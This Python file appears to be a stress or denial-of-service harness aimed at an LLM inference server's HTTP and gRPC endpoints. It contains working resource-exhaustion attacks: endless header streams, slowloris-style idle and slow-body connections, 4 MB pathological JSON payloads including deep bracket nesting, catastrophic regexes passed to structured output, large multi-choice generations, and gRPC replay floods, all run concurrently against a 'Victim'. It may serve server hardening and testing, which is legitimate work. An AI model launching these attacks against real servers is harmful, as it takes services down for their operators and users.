"""What a stranger can send: eight ways to take a server's time or memory, paced to a share of a core together.

The paths are those of a served application; `key` is the attackers' own key, which some of the ways need.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import multiprocessing
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import grpc
import grpc.aio
import httpx

from spool.client.v1 import generation_pb2, generation_pb2_grpc

_BODY_BYTES = 4_000_000
_IDLE_CONNECTIONS = 1_500
_SLOW_BODIES = 64
_REPLAY_STREAMS = 6
_REPLAYED_AT_ONCE = 256
_LONG_REQUESTS = 8
_CALL_SECONDS = 60.0


@dataclass(frozen=True)
class Victim:
    """Where the server listens, and what its requests must name."""

    host: str
    port: int
    grpc_address: str
    model: str
    key: str

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"


@dataclass
class Attack:
    """All ways at once until cancelled. `answers` counts what came back, by way and status."""

    victim: Victim
    share_of_core: float
    receipts: list[str]
    answers: Counter[str] = field(default_factory=Counter)
    _bodies: list[tuple[str, bytes]] = field(init=False)
    _http: httpx.AsyncClient = field(init=False)
    _began: float = field(init=False)
    _used: float = field(init=False)
    """CPU seconds of the process when the attack began."""

    def __post_init__(self) -> None:
        self._bodies = list(_large_bodies(self.victim.model))

    async def run(self) -> None:
        self._began, self._used = time.monotonic(), time.process_time()
        headers = {"authorization": f"Bearer {self.victim.key}"}
        limits = httpx.Limits(max_connections=None)
        async with httpx.AsyncClient(
            base_url=self.victim.url, headers=headers, timeout=_CALL_SECONDS, limits=limits
        ) as http:
            self._http = http
            ways = [self._headers(), self._silent(), self._large_bodies(), self._regexes(), self._health()]
            ways += [self._slow_body() for _ in range(_SLOW_BODIES)]
            ways += [self._replays() for _ in range(_REPLAY_STREAMS)]
            ways += [self._many_choices() for _ in range(_LONG_REQUESTS)]
            async with asyncio.TaskGroup() as group:
                for way in ways:
                    group.create_task(way)

    async def _pace(self) -> None:
        """Waits until the process has used no more than its share since it began."""
        while True:
            allowed = (time.monotonic() - self._began) * self.share_of_core
            excess = time.process_time() - self._used - allowed
            if excess <= 0:
                return
            await asyncio.sleep(min(1.0, excess / self.share_of_core))

    async def _for_ever(self, name: str, once: Callable[[], Awaitable[str]]) -> None:
        while True:
            await self._pace()
            try:
                answer = await once()
            except (httpx.HTTPError, grpc.aio.AioRpcError, OSError, asyncio.IncompleteReadError) as error:
                answer = error.code().name if isinstance(error, grpc.aio.AioRpcError) else type(error).__name__
                await asyncio.sleep(0.2)
            self.answers[f"{name}: {answer}"] += 1

    @asynccontextmanager
    async def _connection(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        reader, writer = await asyncio.open_connection(self.victim.host, self.victim.port)
        try:
            yield reader, writer
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()

    async def _headers(self) -> None:
        lines = b"a:b\r\n" * 10_000

        async def once() -> str:
            async with self._connection() as (reader, writer):
                writer.write(b"GET /ping HTTP/1.1\r\n")
                while not reader.at_eof():
                    writer.write(lines)
                    await writer.drain()
                    await self._pace()
                return _status(await reader.read(200))

        await self._for_ever("endless headers", once)

    async def _silent(self) -> None:
        """Keeps connections open that say nothing."""
        kept: list[asyncio.StreamWriter] = []
        while True:
            kept = [writer for writer in kept if not writer.is_closing()]
            for _ in range(min(50, _IDLE_CONNECTIONS - len(kept))):
                await self._pace()
                try:
                    reader, writer = await asyncio.open_connection(self.victim.host, self.victim.port)
                except OSError as error:
                    self.answers[f"silent connections: {type(error).__name__}"] += 1
                    break
                kept.append(writer)
                asyncio.get_running_loop().create_task(self._until_closed(reader, writer))
            await asyncio.sleep(0.5)

    async def _until_closed(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            answer = await reader.read(200)
            self.answers[f"silent connections: {_status(answer)}"] += 1
        writer.close()

    async def _slow_body(self) -> None:
        head = (
            f"POST /v1/completions HTTP/1.1\r\nhost: {self.victim.host}:{self.victim.port}\r\n"
            f"authorization: Bearer {self.victim.key}\r\ncontent-type: application/json\r\n"
            f"content-length: {_BODY_BYTES}\r\n\r\n"
        ).encode()

        async def once() -> str:
            async with self._connection() as (reader, writer):
                writer.write(head)
                while not reader.at_eof():
                    writer.write(b" ")
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(1.0):
                            return _status(await reader.read(200))
                return "closed"

        await self._for_ever("slow bodies", once)

    async def _large_bodies(self) -> None:
        bodies = itertools.cycle(self._bodies)

        async def once() -> str:
            path, body = next(bodies)
            answer = await self._http.post(path, content=body, headers={"content-type": "application/json"})
            return f"{answer.status_code}"

        await self._for_ever("bodies of 4 MB", once)

    async def _regexes(self) -> None:
        number = itertools.count()

        async def once() -> str:
            body = {
                "model": self.victim.model,
                "prompt": "a",
                "max_tokens": 1,
                "structured_outputs": {"regex": f"(a{{1000}}){{1000}}{next(number)}"},
            }
            return f"{(await self._http.post('/v1/completions', json=body)).status_code}"

        await asyncio.gather(*(self._for_ever("regexes", once) for _ in range(16)))

    async def _health(self) -> None:
        async def once() -> str:
            return f"{(await self._http.get('/health', headers={'authorization': ''})).status_code}"

        await self._for_ever("/health", once)

    async def _many_choices(self) -> None:
        async def once() -> str:
            body = {"model": self.victim.model, "prompt": "Once upon a time", "n": 32, "max_tokens": 400}
            return f"{(await self._http.post('/v1/completions', json=body)).status_code}"

        await self._for_ever("n = 32", once)

    async def _replays(self) -> None:
        metadata = (("authorization", f"Bearer {self.victim.key}"),)
        receipts = itertools.islice(itertools.cycle(self.receipts), _REPLAYED_AT_ONCE)
        requests = [generation_pb2.ReplayRequest(receipt=receipt) for receipt in receipts]

        async def once() -> str:
            async with grpc.aio.insecure_channel(self.victim.grpc_address) as channel:
                call = generation_pb2_grpc.GenerationServiceStub(channel).Replay(iter(requests), metadata=metadata)
                return "equal" if all([answer.equal async for answer in call]) else "unequal"

        await self._for_ever("replays", once)


def attack(
    victim: Victim, share: float, receipts: list[str], seconds: float, answers: multiprocessing.Queue[Any]
) -> None:
    """In a process of its own: puts None into the queue when it begins, runs for that long, and puts the counts of
    answers there."""
    attacking = Attack(victim, share, receipts)
    answers.put(None)

    async def run() -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await attacking.run()

    asyncio.run(run())
    answers.put(dict(attacking.answers))


def _large_bodies(model: str) -> Iterator[tuple[str, bytes]]:
    """Paths and bodies of 4 MB, of few kinds of element many times."""

    def filled(before: str, element: str, after: str, separator: str = ",") -> bytes:
        count = (_BODY_BYTES - len(before) - len(after)) // (len(element) + len(separator))
        return (before + separator.join([element] * count) + after).encode()

    named = f'{{"model": {json.dumps(model)}, '
    for element in ("0", "{}", '""', "[]", '{"role":"user","content":""}'):
        yield "/v1/chat/completions", filled(f'{named}"messages": [', element, "]}")
    asked = named + '"messages": [{"role": "user", "content": "a"}], '
    for field_name in ("tools", "stop", "stop_token_ids", "bad_words"):
        for element in ("0", "{}", '"a"'):
            yield "/v1/chat/completions", filled(f'{asked}"{field_name}": [', element, "]}")
    yield "/v1/chat/completions", filled(f'{asked}"chat_template_kwargs": {{"a": [', "0", "]}}")
    yield "/v1/chat/completions", filled(f'{named}"messages": [{{"role": "user", "content": "', "word", '"}]}', " ")
    for element in ("0", '"a"', "[0]"):
        yield "/v1/completions", filled(f'{named}"prompt": [', element, "]}")
    for text in ("word", "é", "<|im_start|>", "\\u2028"):
        yield "/v1/completions", filled(f'{named}"prompt": "', text, '"}', "")
        yield "/tokenize", filled(f'{named}"prompt": "', text, '"}', "")
    yield "/detokenize", filled(f'{named}"tokens": [', "0", "]}")
    yield "/v1/completions", b"[" * _BODY_BYTES
    yield "/v1/completions", filled(f'{named}"prompt": "a", "structured_outputs": {{"choice": [', '"a"', "]}}")


def _status(answer: bytes) -> str:
    parts = answer.split(b" ", 2)
    return parts[1].decode(errors="replace") if len(parts) > 1 else "closed"
